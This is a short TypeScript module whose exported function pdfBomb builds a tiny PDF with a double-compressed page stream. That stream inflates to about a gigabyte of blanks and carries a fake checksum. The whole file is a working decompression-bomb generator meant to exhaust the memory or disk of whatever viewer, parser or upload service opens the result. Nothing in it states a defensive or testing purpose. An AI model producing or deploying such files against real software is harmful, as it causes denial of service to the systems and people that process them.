import { constants, deflateRawSync, deflateSync } from 'node:zlib';

/** A PDF of 2 kB whose only page unpacks, in two steps, to so many bytes of blanks. */
export function pdfBomb(bytes = 1e9): Buffer<ArrayBuffer> {
  const packed = deflateSync(packBlanks(bytes), { level: 9 });
  const head = [
    '%PDF-1.4',
    '1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj',
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj',
    '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<<>>>>endobj',
    `4 0 obj<</Length ${packed.length}/Filter[/FlateDecode/FlateDecode]>>stream\n`,
  ].join('\n');
  return Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF')]);
}

/** Blocks that end without ending the stream can be put one after the other as often as one likes. */
function packBlanks(bytes: number): Buffer {
  const block = 2 ** 24;
  const packed = deflateRawSync(Buffer.alloc(block, 0x20), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const blocks = Array.from({ length: Math.ceil(bytes / block) }, () => packed);
  // The header of a stream of zlib; its checksum is not looked at.
  return Buffer.concat([Buffer.from([0x78, 0xda]), ...blocks, deflateRawSync(Buffer.alloc(0)), Buffer.alloc(4)]);
}
